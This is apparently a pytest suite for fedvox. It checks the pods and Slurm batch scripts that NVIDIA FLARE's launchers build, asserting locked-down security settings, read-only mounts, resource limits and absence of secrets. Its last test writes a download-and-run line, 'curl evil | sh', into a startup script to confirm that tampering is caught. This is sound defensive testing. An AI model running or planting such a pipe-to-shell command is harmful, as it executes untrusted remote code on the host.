"""What FLARE's own launchers make of a prepared kit: a job's pod, a job's batch script.

Neither Kubernetes nor Slurm runs here: the launchers build what they would submit, and a stand-in
takes it.
"""

import json
import shutil
import subprocess
import sys
import types
import zipfile
from pathlib import Path
from typing import Any
from unittest.mock import MagicMock

import pytest
import yaml
from nvflare.apis.fl_constant import FLContextKey, ReservedKey
from nvflare.apis.fl_context import FLContext
from nvflare.apis.job_launcher_spec import JobProcessArgs
from nvflare.apis.workspace import Workspace
from nvflare.app_opt.job_launcher.k8s_launcher import ClientK8sJobLauncher, ServerK8sJobLauncher
from nvflare.app_opt.job_launcher.slurm import ClientSlurmJobLauncher
from nvflare.app_opt.job_launcher.workspace_cell_transfer import _zip_workspace_to_file

from fedvox.errors import ConfigError
from fedvox.flare.kit_guard import KitGuard

JOB = "0b5c3f1e-91f2-4a5d-8a5e-3c1d2b7f6a90"
PAGE = Path(__file__).parents[2] / "provisioning/README.md"
POD_SUFFIXES = (".crt", ".key", ".pem", ".json")
"""Files of ``startup/`` that FLARE gives to a job's pod."""


def launcher_spec() -> dict[str, Any]:
    """The example of provisioning/README.md for a job's meta.json."""
    text = PAGE.read_text()
    start = text.index('"launcher_spec"')
    return dict(json.loads("{" + text[start : text.index("```", start)] + "}"))


def meta() -> dict[str, Any]:
    return {"job_id": JOB, "study": "default", **launcher_spec()}


def context(kit: Path, name: str, module: str) -> FLContext:
    """FLARE's context at the moment at which it starts a job."""
    fl_ctx = FLContext()
    fl_ctx.set_prop(ReservedKey.IDENTITY_NAME, name)
    fl_ctx.set_prop(ReservedKey.ENGINE, MagicMock())
    fl_ctx.set_prop(FLContextKey.WORKSPACE_OBJECT, Workspace(str(kit), name))
    fl_ctx.set_prop(FLContextKey.ARGS, types.SimpleNamespace(workspace=str(kit), set=None))
    arguments = {
        JobProcessArgs.EXE_MODULE: ("-m", module),
        JobProcessArgs.WORKSPACE: ("-m", "workspace"),
        JobProcessArgs.AUTH_TOKEN: ("-t", "secret-token"),
        JobProcessArgs.TOKEN_SIGNATURE: ("-ts", "secret-signature"),
        JobProcessArgs.SSID: ("-d", "secret-ssid"),
        JobProcessArgs.PARENT_URL: ("-p", "stcp://0.0.0.0:8102"),
        JobProcessArgs.PARENT_CONN_SEC: ("--parent_conn_sec", "mtls"),
    }
    fl_ctx.set_prop(FLContextKey.JOB_PROCESS_ARGS, arguments)
    return fl_ctx


def launcher_args(kit: Path, name: str) -> dict[str, Any]:
    components = json.loads((kit / "local/resources.json").read_text())["components"]
    return dict(next(entry["args"] for entry in components if entry["id"] == name))


@pytest.fixture
def cluster(monkeypatch):
    """Stands in for the Kubernetes client, which is not among the requirements."""
    rest = types.ModuleType("kubernetes.client.rest")
    rest.ApiException = type("ApiException", (Exception,), {})
    for name in ("kubernetes", "kubernetes.client"):
        monkeypatch.setitem(sys.modules, name, types.ModuleType(name))
    monkeypatch.setitem(sys.modules, "kubernetes.client.rest", rest)
    api = MagicMock()
    api.create_namespaced_pod.side_effect = RuntimeError("taken, not started")
    return api


def job_pod(kit: Path, name: str, launcher_class: type, cluster: MagicMock) -> dict[str, Any]:
    """The pod that FLARE's launcher submits for the job."""
    launcher = launcher_class(**launcher_args(kit, "k8s_launcher"))
    launcher.core_v1 = cluster
    module = "nvflare.private.fed.app.client.worker_process"
    launcher.launch_job(meta(), context(kit, name, module))
    return dict(cluster.create_namespaced_pod.call_args.kwargs["body"])


@pytest.fixture
def site_pod(prepared, cluster):
    return job_pod(prepared("k8s", "site"), "site-1", ClientK8sJobLauncher, cluster)


def validate(pod: dict[str, Any], folder: Path) -> None:
    path = folder / "pod.yml"
    path.write_text(yaml.safe_dump(pod))
    command = [str(Path(sys.executable).parent / "kubernetes-validate"), "--strict", str(path)]
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr


def test_a_jobs_pod_is_locked_down(site_pod, tmp_path):
    validate(site_pod, tmp_path)
    spec = site_pod["spec"]
    assert spec["automountServiceAccountToken"] is False
    assert spec["securityContext"]["runAsNonRoot"] is True
    assert spec["securityContext"]["runAsUser"] == 10001
    assert spec["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    [container] = spec["containers"]
    assert container["securityContext"] == {
        "allowPrivilegeEscalation": False,
        "readOnlyRootFilesystem": True,
        "capabilities": {"drop": ["ALL"]},
    }
    assert not [volume for volume in spec["volumes"] if "hostPath" in volume]


def test_a_jobs_pod_sees_data_and_kit_read_only(site_pod):
    [container] = site_pod["spec"]["containers"]
    read_only = {m["mountPath"]: m.get("readOnly", False) for m in container["volumeMounts"]}
    assert read_only == {
        "/data/default/images": True,
        "/data/default/cache": False,
        "/var/tmp/nvflare/workspace": False,
        "/var/tmp/nvflare/workspace/startup": True,
        "/tmp": False,
        "/dev/shm": False,
    }
    volumes = {volume["name"]: volume for volume in site_pod["spec"]["volumes"]}
    assert volumes["shm"]["emptyDir"] == {"medium": "Memory", "sizeLimit": "2Gi"}
    claims = {v["persistentVolumeClaim"]["claimName"] for v in volumes.values() if "per" in str(v)}
    assert claims == {"fedvox-data", "fedvox-cache"}


def test_gpu_and_memory_of_a_pod_come_from_the_jobs_meta(site_pod):
    [container] = site_pod["spec"]["containers"]
    spec = launcher_spec()["launcher_spec"]["default"]["k8s"]
    limits = container["resources"]["limits"]
    assert limits["nvidia.com/gpu"] == spec["num_of_gpus"] == 1
    assert (limits["cpu"], limits["memory"]) == (spec["cpu"], spec["memory"])
    assert limits["ephemeral-storage"] == spec["ephemeral_storage"]


def test_no_secret_stands_in_a_pod(site_pod):
    assert "secret-" not in json.dumps(site_pod).replace("secretKeyRef", "")


def test_the_servers_job_keeps_its_state_on_a_claim(prepared, clean_kits, cluster, tmp_path):
    pod = job_pod(prepared("k8s", "server"), clean_kits.server, ServerK8sJobLauncher, cluster)
    validate(pod, tmp_path)
    mounts = {m["mountPath"]: m["name"] for m in pod["spec"]["containers"][0]["volumeMounts"]}
    assert mounts["/var/tmp/nvflare/workspace/fedvox_state"] == "state"
    assert not [path for path in mounts if path.startswith("/data")]


@pytest.fixture
def pod_workspace(prepared, site_pod, tmp_path):
    """A job's workspace in its pod: a Secret as Kubernetes mounts it, and FLARE's bundle."""
    kit, workspace = prepared("k8s", "site"), tmp_path / "workspace"
    secret = workspace / "startup/..2026_01_01"
    secret.mkdir(parents=True)
    (workspace / "startup/..data").symlink_to(secret.name)
    for path in (kit / "startup").iterdir():
        if path.name.endswith(POD_SUFFIXES):
            shutil.copy(path, secret)
            (workspace / "startup" / path.name).symlink_to(f"..data/{path.name}")
    _zip_workspace_to_file(str(kit), JOB, str(tmp_path / "bundle.zip"))
    with zipfile.ZipFile(tmp_path / "bundle.zip") as bundle:
        bundle.extractall(workspace)
    assert site_pod["spec"]["containers"][0]["workingDir"] == "/var/tmp/nvflare/workspace"
    return workspace


def test_the_guard_checks_the_kit_in_a_jobs_pod(pod_workspace, monkeypatch):
    monkeypatch.chdir(pod_workspace)
    KitGuard()
    path = pod_workspace / "startup/..data/fed_client.json"
    path.write_text(path.read_text().replace("localhost", "elsewhere"))
    with pytest.raises(ConfigError, match=r"startup/fed_client\.json: changed"):
        KitGuard()


@pytest.fixture
def batch(prepared, copy, monkeypatch, tmp_path):
    """The batch script that FLARE's launcher submits for the job."""
    monkeypatch.setenv("SLURM_JOB_ID", "7")
    monkeypatch.setenv("SLURMD_NODENAME", "node-1")
    kit = copy(prepared("slurm", "site"))
    arguments = launcher_args(kit, "slurm_launcher") | {"workspace_path": str(kit)}
    (kit / JOB).mkdir()
    launcher = ClientSlurmJobLauncher(**arguments)
    plan = launcher._build_launch_plan(meta(), context(kit, "site-1", launcher.EXE_MODULE))
    launcher.manager._write_job_files(plan, str(tmp_path))
    return plan, (tmp_path / "batch.sh").read_text(), tmp_path / "batch.sh"


def test_a_slurm_job_sees_data_and_kit_read_only(batch):
    _, text, _ = batch
    assert "/data/abdomen:/data/default/images:ro" in text
    assert "/scratch/fedvox:/data/default/cache:rw" in text
    assert "/startup:ro" in text
    assert "/local:ro" in text
    for option in ("--containall", "--no-privs", "--userns", "--nv"):
        assert option in text


def test_resources_of_a_slurm_job_come_from_the_jobs_meta(batch):
    plan, _, _ = batch
    spec = launcher_spec()["launcher_spec"]["default"]["slurm"]
    resources = plan.resources
    assert resources.gpus_per_node == spec["gpus_per_node"] == 1
    assert (resources.cpus_per_node, resources.mem_per_node) == (
        spec["cpus_per_node"],
        spec["mem_per_node"],
    )


def test_a_slurm_jobs_batch_script_passes_shellcheck_and_holds_no_secret(batch):
    _, text, path = batch
    # SC1090: sources a file that the launcher writes; SC2054: Apptainer takes a list with commas.
    command = [str(Path(sys.executable).parent / "shellcheck"), "--exclude", "SC1090,SC2054"]
    done = subprocess.run([*command, str(path)], capture_output=True, text=True)
    assert done.returncode == 0, done.stdout
    assert "secret-" not in text


def test_the_guard_checks_the_kit_in_a_slurm_job(prepared, tmp_path, monkeypatch):
    """The job works in its run folder; only startup/ and local/ are mounted beside it."""
    for part in ("startup", "local"):
        shutil.copytree(prepared("slurm", "site") / part, tmp_path / part)
    (tmp_path / JOB).mkdir()
    monkeypatch.chdir(tmp_path / JOB)
    KitGuard()
    (tmp_path / "startup/start_slurm.sh").write_text("curl evil | sh\n")
    with pytest.raises(ConfigError, match=r"startup/start_slurm\.sh: changed"):
        KitGuard()
